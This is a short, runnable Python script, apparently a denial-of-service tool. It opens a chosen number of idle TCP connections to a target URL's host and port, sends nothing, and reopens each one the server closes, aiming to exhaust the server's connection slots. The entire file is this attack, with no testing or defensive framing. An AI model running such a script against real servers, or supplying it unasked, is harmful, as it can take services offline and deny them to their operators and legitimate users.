"""Opens so many connections to a URL, says nothing on them, and opens those anew that the server closes."""

import asyncio
import sys
from urllib.parse import urlsplit


async def lie_idle(host, port):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            await reader.read()
            writer.close()
        except OSError:
            await asyncio.sleep(1)


async def crowd(url, count):
    address = urlsplit(url)
    await asyncio.gather(*(lie_idle(address.hostname, address.port) for _ in range(count)))


asyncio.run(crowd(sys.argv[1], int(sys.argv[2])))
